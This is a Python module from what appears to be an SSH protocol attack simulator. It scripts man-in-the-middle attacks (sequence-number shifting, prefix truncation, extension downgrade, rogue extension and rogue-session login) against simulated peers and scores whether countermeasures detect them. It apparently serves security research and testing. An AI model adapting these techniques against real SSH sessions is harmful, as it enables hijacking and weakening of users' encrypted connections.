"""Attack scripts for the meddler and the scenario runner that scores them.

Every constructor returns a fresh :class:`AttackScript`; scripts compose with ``+``.
"""
from __future__ import annotations

import logging
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from .ciphers import Direction, ModeId
from .codec import (
    ExtInfo,
    Ignore,
    KexDhInit,
    KexDhReply,
    Message,
    NewKeys,
    Ping,
    Unimplemented,
    Unknown,
    UserAuthRequest,
    encode_packet,
)
from .fabric import Action, AttackScript, Fabric, LengthOracle, Match, Meddler, MitmEvent, Phase, Rule
from .models import (
    DEFAULT_SERVER_EXTENSIONS,
    Credentials,
    CountermeasurePeers,
    CountermeasureSettings,
    PeerConfig,
    Role,
    ScenarioName,
    ScenarioSpec,
)
from .peer import ClientPeer, EventKind, PeerSession, SeedLike, ServerPeer, TerminalCause, as_seed_sequence
from .registry import MessageIdRegistry, load_registry

logger = logging.getLogger(__name__)

PREFERRED_UNKNOWN_ID = 200
PING_REFLECTION_BYTES = 255

CLIENT_CREDENTIALS = Credentials(user="alice", password="alice-password")
CLIENT_EXTENSIONS: Dict[str, str] = {"global-requests-ok": ""}
DEFAULT_WORKLOAD: List[bytes] = [b"echo hello\n", b"id\n", b"uname -a\n", b"exit\n"]

OUTCOME_CLEAN = "clean_deletion"
OUTCOME_CORRUPTED = "mac_pass_corrupted"
OUTCOME_FAILURE = "connection_failure"


# ---------------------------------------------------------------------------
# packet helpers
# ---------------------------------------------------------------------------

def unknown_message_id(registry: Optional[MessageIdRegistry] = None) -> int:
    registry = registry or load_registry()
    if not registry.is_known(PREFERRED_UNKNOWN_ID):
        return PREFERRED_UNKNOWN_ID
    unknown = registry.unknown_ids()
    if not unknown:
        raise ValueError(f"registry {registry.name!r} knows every message id; nothing can be unrecognized")
    return unknown[-1]


def plaintext_frames(msg: Message, count: int = 1, rng: Optional[np.random.Generator] = None) -> bytes:
    """``count`` copies of ``msg`` framed as pre-NewKeys packets."""
    rng = rng or np.random.default_rng()
    return b"".join(
        encode_packet(msg, block_size=8, length_encrypted=True, padding_source=rng.bytes).to_bytes()
        for _ in range(count)
    )


def _inject(match: Match, target: Direction, frames: Sequence[Tuple[Message, int]], label: str,
            rng: Optional[np.random.Generator]) -> Rule:
    payload = b"".join(plaintext_frames(msg, count, rng) for msg, count in frames if count)
    return Rule(
        match=match,
        action=Action.inject,
        payload=payload,
        count=sum(count for _, count in frames),
        target=target,
        label=label,
    )


def _delete(match: Match, label: str, once: bool = True) -> Rule:
    return Rule(match=match, action=Action.delete, once=once, label=label)


def _send_direction(role: Role) -> Direction:
    return Direction.client_to_server if role is Role.client else Direction.server_to_client


def _kex_point(target: Role) -> Match:
    """Last pre-NewKeys packet flowing towards ``target`` before it derives keys."""
    if target is Role.client:
        return Match(Direction.server_to_client, Phase.pre, message_id=KexDhReply.message_id)
    return Match(Direction.client_to_server, Phase.pre, message_id=KexDhInit.message_id)


# ---------------------------------------------------------------------------
# sequence number manipulation
# ---------------------------------------------------------------------------

def rcv_increase(target: Role, n: int, rng: Optional[np.random.Generator] = None) -> AttackScript:
    """Raise the target's receive counter by ``n`` with injected Ignores."""
    if n < 0:
        raise ValueError("n must be non-negative")
    script = AttackScript(f"rcv-increase({target.value},{n})")
    if n:
        towards = _send_direction(target.other)
        script.rules.append(_inject(_kex_point(target), towards, [(Ignore(), n)], f"{n} x Ignore", rng))
    return script


def rcv_decrease(target: Role, n: int, modulus_bits: int = 32,
                 rng: Optional[np.random.Generator] = None) -> AttackScript:
    """Lower the target's receive counter by ``n`` by wrapping it with 2^w - n Ignores."""
    modulus = 1 << modulus_bits
    if not 0 <= n < modulus:
        raise ValueError(f"n must be in [0, 2^{modulus_bits})")
    script = AttackScript(f"rcv-decrease({target.value},{n})")
    if n:
        towards = _send_direction(target.other)
        script.rules.append(
            _inject(_kex_point(target), towards, [(Ignore(), modulus - n)], f"{modulus - n} x Ignore", rng)
        )
    return script


def _send_count_script(name: str, target: Role, unknowns: int, ignores: int,
                       registry: Optional[MessageIdRegistry], rng: Optional[np.random.Generator]) -> AttackScript:
    towards = _send_direction(target.other)
    probe = Unknown(unknown_message_id(registry))
    script = AttackScript(name)
    script.rules.append(_inject(
        _kex_point(target), towards, [(probe, unknowns), (Ignore(), ignores)],
        f"{unknowns} x Unknown + {ignores} x Ignore", rng,
    ))
    script.rules.append(_delete(
        Match(_send_direction(target), Phase.pre, message_id=Unimplemented.message_id),
        "provoked Unimplemented", once=False,
    ))
    return script


def snd_increase(target: Role, n: int, modulus_bits: int = 32,
                 registry: Optional[MessageIdRegistry] = None,
                 rng: Optional[np.random.Generator] = None) -> AttackScript:
    """Raise the target's send counter by ``n``; the receive counter wraps back into place."""
    modulus = 1 << modulus_bits
    if not 0 <= n < modulus:
        raise ValueError(f"n must be in [0, 2^{modulus_bits})")
    if n == 0:
        return AttackScript(f"snd-increase({target.value},0)")
    return _send_count_script(f"snd-increase({target.value},{n})", target, n, modulus - n, registry, rng)


def snd_decrease(target: Role, n: int, modulus_bits: int = 32,
                 registry: Optional[MessageIdRegistry] = None,
                 rng: Optional[np.random.Generator] = None) -> AttackScript:
    modulus = 1 << modulus_bits
    if not 0 <= n < modulus:
        raise ValueError(f"n must be in [0, 2^{modulus_bits})")
    if n == 0:
        return AttackScript(f"snd-decrease({target.value},0)")
    return _send_count_script(f"snd-decrease({target.value},{n})", target, modulus - n, n, registry, rng)


# ---------------------------------------------------------------------------
# truncation and injection attacks
# ---------------------------------------------------------------------------

def _delete_prefix(direction: Direction, count: int) -> List[Rule]:
    return [_delete(Match(direction, Phase.post, index=i), f"channel packet #{i}") for i in range(count)]


def prefix_truncate(n_s: int, n_c: int, rng: Optional[np.random.Generator] = None) -> AttackScript:
    """Delete the first ``n_s`` server and ``n_c`` client channel packets without a MAC failure."""
    if n_s < 0 or n_c < 0:
        raise ValueError("prefix lengths must be non-negative")
    script = rcv_increase(Role.client, n_s, rng) + rcv_increase(Role.server, n_c, rng)
    script.name = f"prefix-truncate({n_s},{n_c})"
    script.rules.extend(_delete_prefix(Direction.server_to_client, n_s))
    script.rules.extend(_delete_prefix(Direction.client_to_server, n_c))
    return script


def extension_downgrade(
    mode: ModeId = ModeId.chacha20_poly1305,
    *,
    target: Role = Role.client,
    use_ping: bool = False,
    registry: Optional[MessageIdRegistry] = None,
    rng: Optional[np.random.Generator] = None,
) -> AttackScript:
    """Strip the ExtInfo sent right after NewKeys."""
    if mode is ModeId.chacha20_poly1305:
        script = prefix_truncate(1, 0, rng) if target is Role.client else prefix_truncate(0, 1, rng)
        script.name = f"ext-downgrade-chacha({target.value})"
        return script
    if mode is not ModeId.cbc_etm:
        raise ValueError(f"extension downgrade is not defined for {mode.value}")
    if target is not Role.client:
        raise ValueError("the CBC-EtM variant strips the server's ExtInfo only")

    probe = Unknown(unknown_message_id(registry))
    at_reply = Match(Direction.server_to_client, Phase.pre, message_id=KexDhReply.message_id)
    # the server answers this after its own NewKeys, so the reply lands right behind ExtInfo
    provoke = Ping(bytes(PING_REFLECTION_BYTES)) if use_ping else probe
    script = AttackScript(f"ext-downgrade-cbc-etm({'ping' if use_ping else 'unknown'})")
    script.rules.append(_inject(at_reply, Direction.server_to_client, [(probe, 1)], "realign Unknown", rng))
    rule = _inject(at_reply, Direction.client_to_server, [(provoke, 1)], f"provoke {provoke.name}", rng)
    rule.before = False
    script.rules.append(rule)
    script.rules.append(_delete(
        Match(Direction.client_to_server, Phase.pre, message_id=Unimplemented.message_id),
        "client Unimplemented",
    ))
    script.rules.extend(_delete_prefix(Direction.server_to_client, 1))
    return script


def rogue_extension(extensions: Dict[str, str], rng: Optional[np.random.Generator] = None) -> AttackScript:
    """Replace the server's ExtInfo with an attacker-chosen one."""
    script = AttackScript("rogue-extension")
    script.rules.append(_inject(
        Match(Direction.server_to_client, Phase.pre, message_id=NewKeys.message_id),
        Direction.server_to_client,
        [(ExtInfo.from_mapping(extensions), 1)],
        "rogue ExtInfo",
        rng,
    ))
    script.rules.extend(_delete_prefix(Direction.server_to_client, 1))
    return script


def rogue_session(
    attacker: Credentials,
    strategy: int = 1,
    *,
    client_auth_index: int = 2,
    server_success_index: int = 2,
    registry: Optional[MessageIdRegistry] = None,
    rng: Optional[np.random.Generator] = None,
) -> AttackScript:
    """Log the client into the attacker's account.

    The injected request is deferred by the server until the service is accepted; the
    client's own request is held back until the server has signalled success.
    """
    request = UserAuthRequest(
        user=attacker.user, method=attacker.method, credential=attacker.password.encode("utf-8")
    )
    script = AttackScript(f"rogue-session(strategy {strategy})")
    script.rules.append(_inject(
        Match(Direction.client_to_server, Phase.pre, message_id=NewKeys.message_id),
        Direction.client_to_server,
        [(request, 1)],
        f"UserAuthRequest as {attacker.user}",
        rng,
    ))
    if strategy == 1:
        script.rules.extend(_delete_prefix(Direction.client_to_server, 1))
    elif strategy == 2:
        script.rules.append(_inject(
            _kex_point(Role.client),
            Direction.server_to_client,
            [(Unknown(unknown_message_id(registry)), 1)],
            "Unknown to client",
            rng,
        ))
        # the client's answer takes the injected request's place in the server's count
        script.rules.append(_delete(
            Match(Direction.client_to_server, Phase.pre, message_id=Unimplemented.message_id),
            "client Unimplemented",
        ))
        script.rules.extend(_delete_prefix(Direction.server_to_client, 1))
    else:
        raise ValueError(f"unknown rogue session strategy {strategy}")
    script.rules.append(Rule(
        match=Match(Direction.client_to_server, Phase.post, index=client_auth_index),
        action=Action.hold,
        release=Match(Direction.server_to_client, Phase.post, index=server_success_index),
        label="client UserAuthRequest",
    ))
    return script


def suffix_truncate(after: int, offset: int) -> AttackScript:
    """Drop every client channel packet from workload item ``after`` on, Disconnect included."""
    if after < 0 or offset < 0:
        raise ValueError("after and offset must be non-negative")
    return AttackScript(f"suffix-truncate({after})", [
        _delete(Match(Direction.client_to_server, Phase.post, from_index=offset + after), "suffix", once=False)
    ])


# ---------------------------------------------------------------------------
# scenario runner
# ---------------------------------------------------------------------------

@dataclass
class ScenarioResult:
    spec: ScenarioSpec
    success: bool
    outcome: str
    reason: str
    client: PeerSession
    server: PeerSession
    mitm_log: List[MitmEvent] = field(default_factory=list)
    details: Dict[str, object] = field(default_factory=dict)

    @property
    def failed_peers(self) -> List[str]:
        return [s.role.value for s in (self.client, self.server) if s.failed]


def _countermeasures(spec: ScenarioSpec, role: Role) -> CountermeasureSettings:
    peers = spec.countermeasure_peers
    if peers is CountermeasurePeers.both or peers.value == role.value:
        return spec.countermeasure.settings()
    return CountermeasureSettings()


def build_configs(spec: ScenarioSpec) -> Tuple[PeerConfig, PeerConfig]:
    mode = spec.resolved_mode()
    profile = spec.resolved_profile()
    bits = spec.resolved_modulus_bits()
    workload = list(DEFAULT_WORKLOAD)
    client = PeerConfig.for_mode(
        Role.client,
        mode,
        profile=profile,
        credentials=CLIENT_CREDENTIALS,
        extensions=dict(CLIENT_EXTENSIONS),
        countermeasures=_countermeasures(spec, Role.client),
        seq_modulus_bits=bits,
        workload=workload,
        disconnect_when_done=spec.name is ScenarioName.suffix_truncate,
    )
    server = PeerConfig.for_mode(
        Role.server,
        mode,
        profile=profile,
        extensions=dict(DEFAULT_SERVER_EXTENSIONS),
        countermeasures=_countermeasures(spec, Role.server),
        seq_modulus_bits=bits,
        accounts={CLIENT_CREDENTIALS.user: CLIENT_CREDENTIALS.password, spec.attacker.user: spec.attacker.password},
    )
    return client, server


def _client_handshake_packets(client: PeerConfig, server: PeerConfig) -> int:
    """Channel packets the client sends before its workload."""
    transcript_mac = client.countermeasures.transcript_mac and server.countermeasures.transcript_mac
    ext_info = server.signal_ext_info and bool(client.extensions)
    return int(transcript_mac) + int(ext_info) + 2


def build_script(
    spec: ScenarioSpec,
    client: PeerConfig,
    server: PeerConfig,
    registry: Optional[MessageIdRegistry] = None,
    rng: Optional[np.random.Generator] = None,
) -> Optional[AttackScript]:
    name = spec.name
    bits = spec.resolved_modulus_bits()
    if name is ScenarioName.baseline:
        return None
    if name is ScenarioName.prefix_truncate:
        return prefix_truncate(spec.n_s, spec.n_c, rng)
    if name is ScenarioName.ext_downgrade_chacha:
        return extension_downgrade(ModeId.chacha20_poly1305, target=spec.target, registry=registry, rng=rng)
    if name is ScenarioName.ext_downgrade_cbc_etm:
        return extension_downgrade(ModeId.cbc_etm, use_ping=spec.use_ping, registry=registry, rng=rng)
    if name is ScenarioName.rogue_extension:
        return rogue_extension(spec.rogue_extensions, rng)
    if name is ScenarioName.rogue_session:
        tm = client.countermeasures.transcript_mac and server.countermeasures.transcript_mac
        client_first = int(tm) + int(server.signal_ext_info and bool(client.extensions))
        server_first = int(tm) + int(client.signal_ext_info and bool(server.extensions))
        return rogue_session(
            spec.attacker,
            spec.strategy,
            client_auth_index=client_first + 1,
            server_success_index=server_first + 1,
            registry=registry,
            rng=rng,
        )
    if name is ScenarioName.suffix_truncate:
        return suffix_truncate(spec.suffix_after, _client_handshake_packets(client, server))
    if name is ScenarioName.technique_rcv_inc:
        return rcv_increase(spec.target, spec.n, rng)
    if name is ScenarioName.technique_rcv_dec:
        return rcv_decrease(spec.target, spec.n, bits, rng)
    if name is ScenarioName.technique_snd_inc:
        return snd_increase(spec.target, spec.n, bits, registry, rng)
    if name is ScenarioName.technique_snd_dec:
        return snd_decrease(spec.target, spec.n, bits, registry, rng)
    raise ValueError(f"no attack script for scenario {name.value}")


def _fresh(seeds: Sequence[np.random.SeedSequence]) -> List[np.random.SeedSequence]:
    """Unspawned copies, so a rerun draws exactly the same streams."""
    return [np.random.SeedSequence(s.entropy, spawn_key=s.spawn_key, pool_size=s.pool_size) for s in seeds]


def _run_fabric(
    client_config: PeerConfig,
    server_config: PeerConfig,
    seeds: Sequence[np.random.SeedSequence],
    script: Optional[AttackScript],
    spec: ScenarioSpec,
    registry: MessageIdRegistry,
):
    client = ClientPeer(client_config, seeds[0], registry)
    server = ServerPeer(server_config, seeds[1], registry)
    meddler = None
    if script is not None:
        oracle = LengthOracle.guess if spec.guess_lengths else LengthOracle.exact
        meddler = Meddler(
            script,
            oracle=oracle,
            guess_lengths=spec.guess_lengths,
            rng=np.random.default_rng(seeds[2]),
        )
    return Fabric(client, server, meddler).run()


def _corrupt_channel_events(session: PeerSession) -> int:
    return sum(
        1 for e in session.events
        if e.encrypted and e.kind in (EventKind.corrupt, EventKind.evasive)
    )


def _describe_failure(*sessions: PeerSession) -> str:
    for session in sessions:
        if session.failed:
            return f"{session.role.value} {session.terminal.value}: {session.terminal_detail}"
    return ""


def _channel_ids(session: PeerSession, kinds: Tuple[EventKind, ...]) -> List[Optional[int]]:
    return [e.message_id for e in session.events if e.encrypted and e.kind in kinds]


def _stream_mismatches(receiver: PeerSession, sender: PeerSession, deleted: int) -> int:
    """Channel packets the receiver accepted that differ from what the sender sent after the cut."""
    got = _channel_ids(receiver, (EventKind.received, EventKind.corrupt, EventKind.evasive))
    sent = _channel_ids(sender, (EventKind.sent,))[deleted:]
    return sum(1 for i, message_id in enumerate(got) if i >= len(sent) or sent[i] != message_id)


def _judge_prefix(spec: ScenarioSpec, client: PeerSession, server: PeerSession) -> Tuple[bool, str, str]:
    corrupted = (
        _corrupt_channel_events(client)
        + _corrupt_channel_events(server)
        + _stream_mismatches(client, server, spec.n_s)
        + _stream_mismatches(server, client, spec.n_c)
    )
    if corrupted:
        return False, OUTCOME_CORRUPTED, "corrupted channel packet(s) passed the MAC"
    if client.failed or server.failed:
        return False, OUTCOME_FAILURE, _describe_failure(client, server)
    return True, OUTCOME_CLEAN, "channel prefix removed without a MAC failure"


def _judge_downgrade(spec: ScenarioSpec, client: PeerSession, server: PeerSession) -> Tuple[bool, str, str]:
    if client.failed or server.failed:
        return False, OUTCOME_FAILURE, _describe_failure(client, server)
    victim = client if spec.target is Role.client else server
    if not victim.established:
        return False, "stalled", f"{victim.role.value} never established a session"
    if victim.received_extensions:
        return False, "extensions_kept", f"{victim.role.value} still holds {sorted(victim.received_extensions)}"
    if victim.keystroke_countermeasure_active:
        return False, "extensions_kept", "keystroke timing countermeasure still active"
    return True, "downgraded", f"{victim.role.value} established without peer extensions"


def _judge_rogue_extension(spec: ScenarioSpec, client: PeerSession, server: PeerSession) -> Tuple[bool, str, str]:
    wanted = {k: v.encode("utf-8") for k, v in spec.rogue_extensions.items()}
    if client.failed:
        return False, OUTCOME_FAILURE, _describe_failure(client)
    if client.received_extensions == wanted:
        return True, "replaced", f"client accepted {sorted(wanted)} from the attacker"
    return False, "rejected", f"client extensions are {sorted(client.received_extensions)}"


def _judge_rogue_session(spec: ScenarioSpec, client: PeerSession, server: PeerSession) -> Tuple[bool, str, str]:
    if client.failed or server.failed:
        return False, OUTCOME_FAILURE, _describe_failure(client, server)
    if server.authenticated_user == spec.attacker.user and client.established:
        return True, "hijacked", f"client session runs as {spec.attacker.user}"
    return False, "not_hijacked", f"server user is {server.authenticated_user!r}"


def _judge_suffix(spec: ScenarioSpec, client: PeerSession, server: PeerSession) -> Tuple[bool, str, str]:
    got = len(server.app_received)
    if server.failed:
        return False, OUTCOME_FAILURE, _describe_failure(server)
    if got == spec.suffix_after:
        return True, "truncated", f"server received {got} of {len(client.app_sent)} items, no error"
    return False, "not_truncated", f"server received {got} items"


_COUNTER_NAMES = ("client.snd", "client.rcv", "server.snd", "server.rcv")


def _judge_technique(spec: ScenarioSpec, client: PeerSession, server: PeerSession,
                     baseline: Tuple[PeerSession, PeerSession]) -> Tuple[bool, str, str, Dict[str, object]]:
    for session in (client, server):
        if session.terminal in (TerminalCause.rollover_detected, TerminalCause.transcript_mac_mismatch):
            return False, "detected", _describe_failure(session), {}
    entries = [client.channel_entry, server.channel_entry, baseline[0].channel_entry, baseline[1].channel_entry]
    if any(entry is None for entry in entries):
        return False, OUTCOME_FAILURE, _describe_failure(client, server) or "handshake did not finish", {}
    modulus = 1 << spec.resolved_modulus_bits()
    observed = [*client.channel_entry, *server.channel_entry]
    expected_base = [*baseline[0].channel_entry, *baseline[1].channel_entry]
    deltas = {name: (o - b) % modulus for name, o, b in zip(_COUNTER_NAMES, observed, expected_base)}

    name = spec.name
    counter = "rcv" if name in (ScenarioName.technique_rcv_inc, ScenarioName.technique_rcv_dec) else "snd"
    sign = 1 if name in (ScenarioName.technique_rcv_inc, ScenarioName.technique_snd_inc) else -1
    victim = f"{spec.target.value}.{counter}"
    wanted = {key: 0 for key in _COUNTER_NAMES}
    wanted[victim] = (sign * spec.n) % modulus
    details: Dict[str, object] = {"deltas": deltas, "expectedDeltas": wanted}
    if deltas == wanted:
        return True, "shifted", f"{victim} moved by {'+' if sign > 0 else '-'}{spec.n}", details
    return False, "not_shifted", f"counter deltas {deltas}", details


def run_scenario(
    spec: ScenarioSpec,
    seed: SeedLike = None,
    registry: Optional[MessageIdRegistry] = None,
) -> ScenarioResult:
    """Run one scenario over the fabric and judge it against the scenario's success condition."""
    registry = registry or load_registry()
    seed_seq = as_seed_sequence(spec.seed if seed is None else seed)
    seeds = seed_seq.spawn(4)
    client_config, server_config = build_configs(spec)
    script = build_script(spec, client_config, server_config, registry, np.random.default_rng(seeds[3]))
    run = _run_fabric(client_config, server_config, _fresh(seeds), script, spec, registry)
    client, server = run.client_session, run.server_session

    details: Dict[str, object] = {"rounds": run.rounds, "script": script.name if script else "none"}
    name = spec.name
    if name is ScenarioName.baseline:
        ok = client.established and server.established and not (client.failed or server.failed)
        outcome = "established" if ok else OUTCOME_FAILURE
        reason = "handshake and authentication completed" if ok else _describe_failure(client, server)
    elif name is ScenarioName.prefix_truncate:
        ok, outcome, reason = _judge_prefix(spec, client, server)
    elif name in (ScenarioName.ext_downgrade_chacha, ScenarioName.ext_downgrade_cbc_etm):
        ok, outcome, reason = _judge_downgrade(spec, client, server)
    elif name is ScenarioName.rogue_extension:
        ok, outcome, reason = _judge_rogue_extension(spec, client, server)
    elif name is ScenarioName.rogue_session:
        ok, outcome, reason = _judge_rogue_session(spec, client, server)
    elif name is ScenarioName.suffix_truncate:
        ok, outcome, reason = _judge_suffix(spec, client, server)
    else:
        base = _run_fabric(client_config, server_config, _fresh(seeds), None, spec, registry)
        ok, outcome, reason, extra = _judge_technique(
            spec, client, server, (base.client_session, base.server_session)
        )
        details.update(extra)

    if (client.detected or server.detected) and not ok and name is not ScenarioName.prefix_truncate:
        outcome = "detected"
    logger.debug("%s: %s (%s)", name.value, outcome, reason)
    return ScenarioResult(
        spec=spec,
        success=ok,
        outcome=outcome,
        reason=reason,
        client=client,
        server=server,
        mitm_log=run.mitm_log,
        details=details,
    )


# ---------------------------------------------------------------------------
# mode matrix
# ---------------------------------------------------------------------------

@dataclass
class ModeMatrixRow:
    mode: ModeId
    trials: int
    outcomes: Dict[str, int]
    verdicts: Dict[str, int] = field(default_factory=dict)

    @property
    def dominant(self) -> str:
        return max(self.outcomes.items(), key=lambda kv: kv[1])[0] if self.outcomes else ""


def run_mode_matrix(
    trials: int = 1,
    seed: int = 0,
    modes: Optional[Sequence[ModeId]] = None,
    registry: Optional[MessageIdRegistry] = None,
) -> List[ModeMatrixRow]:
    """Single-message prefix truncation against every mode; tallies clean/corrupted/failed outcomes."""
    if trials < 1:
        raise ValueError("trials must be positive")
    rows = []
    for mode in modes or list(ModeId):
        spec = ScenarioSpec(name=ScenarioName.prefix_truncate, mode=mode, n_s=1, n_c=0, profile="lenient")
        outcomes: Counter = Counter()
        verdicts: Counter = Counter()
        for i in range(trials):
            result = run_scenario(spec, seed=(seed, i), registry=registry)
            outcomes[result.outcome] += 1
            for session in (result.client, result.server):
                verdicts.update(
                    e.kind.value for e in session.events
                    if e.encrypted and e.kind in (EventKind.corrupt, EventKind.evasive)
                )
        rows.append(ModeMatrixRow(mode, trials, dict(outcomes), dict(sorted(verdicts.items()))))
    return rows
